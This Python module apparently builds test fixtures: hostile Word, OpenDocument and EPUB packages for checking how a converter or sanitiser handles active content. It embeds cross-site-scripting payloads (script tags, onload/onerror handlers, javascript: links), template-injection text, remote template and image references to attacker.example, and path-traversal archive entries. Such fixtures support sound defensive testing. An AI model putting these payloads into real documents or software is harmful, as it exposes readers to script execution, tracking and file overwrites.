# ruff: noqa: E501
"""Files of office programs and e-readers that carry what would run: `PACKED`, by name."""

from __future__ import annotations

from makers import pack_members

TITLE = "&lt;script&gt;attack()&lt;/script&gt; in a file"
TEXT = "Words with &lt;img src=x onerror=attack()&gt;, {{ config }} and ![x](http://attacker.example/x)"
LINK = "javascript:attack()"
CORE = f"""<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"
xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{TITLE}</dc:title><dc:creator>"&gt;{TITLE}</dc:creator>
</cp:coreProperties>"""
TYPES = """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="svg" ContentType="image/svg+xml"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>"""
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
DOCUMENT = f"""<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"
xmlns:r="{OFFICE}"><w:body><w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>{TITLE}</w:t></w:r></w:p>
<w:p><w:hyperlink r:id="l"><w:r><w:t>A link</w:t></w:r></w:hyperlink><w:r><w:t> and {TEXT} of a word processor.</w:t></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK "{LINK}"</w:instrText><w:fldChar w:fldCharType="separate"/>
<w:t>A field</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"""
WORD = {
    "[Content_Types].xml": TYPES,
    "_rels/.rels": RELATIONS.format(
        f'<Relationship Id="d" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
        f'<Relationship Id="c" Type="{OFFICE}/metadata/core-properties" Target="docProps/core.xml"/>'
    ),
    "word/_rels/document.xml.rels": RELATIONS.format(
        f'<Relationship Id="l" Type="{OFFICE}/hyperlink" Target="{LINK}" TargetMode="External"/>'
        f'<Relationship Id="t" Type="{OFFICE}/attachedTemplate" Target="http://attacker.example/x.dotm" TargetMode="External"/>'
    ),
    "word/document.xml": DOCUMENT,
    "docProps/core.xml": CORE,
    "../../../outside.xml": "<x/>",
}
OASIS = "urn:oasis:names:tc:opendocument:xmlns"
OPEN_DOCUMENT = {
    "mimetype": "application/vnd.oasis.opendocument.text",
    "content.xml": f"""<office:document-content xmlns:office="{OASIS}:office:1.0" xmlns:text="{OASIS}:text:1.0"
xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="{OASIS}:drawing:1.0"><office:body><office:text>
<text:h text:outline-level="1">{TITLE} too</text:h><text:p><text:a xlink:href="{LINK}">A link</text:a> and {TEXT} of an office.</text:p>
<text:p><draw:frame><draw:image xlink:href="Pictures/x.svg"/></draw:frame><draw:frame><draw:image xlink:href="http://attacker.example/x.png"/></draw:frame></text:p>
</office:text></office:body></office:document-content>""",
    "Pictures/x.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="attack()"/>',
    "META-INF/manifest.xml": f'<manifest:manifest xmlns:manifest="{OASIS}:manifest:1.0"/>',
}
BOOK = {
    "mimetype": "application/epub+zip",
    "META-INF/container.xml": '<container><rootfiles><rootfile full-path="book.opf"/></rootfiles></container>',
    "book.opf": f"""<package xmlns:dc="http://purl.org/dc/elements/1.1/"><metadata><dc:title>{TITLE} of a book</dc:title>
<dc:creator>{TITLE}</dc:creator></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml" properties="scripted"/>
<item id="b" href="../../outside.xhtml" media-type="application/xhtml+xml"/><item id="c" href="http://attacker.example/c.xhtml" media-type="application/xhtml+xml"/></manifest>
<spine><itemref idref="a"/><itemref idref="b"/><itemref idref="c"/></spine></package>""",
    "a.xhtml": f"""<html xmlns="http://www.w3.org/1999/xhtml"><head><script>attack()</script></head><body onload="attack()">
<h1>{TITLE} of a book</h1><p><a href="{LINK}">A link</a> and {TEXT} of a book.</p><svg xmlns="http://www.w3.org/2000/svg" onload="attack()"/>
<p><img src="x.svg" onerror="attack()"/><img src="http://attacker.example/x.png"/> and more words.</p></body></html>""",
    "x.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="attack()"/>',
}

PACKED = {
    "text.docx": pack_members(WORD),
    "text.odt": pack_members(OPEN_DOCUMENT),
    "text.epub": pack_members(BOOK),
}
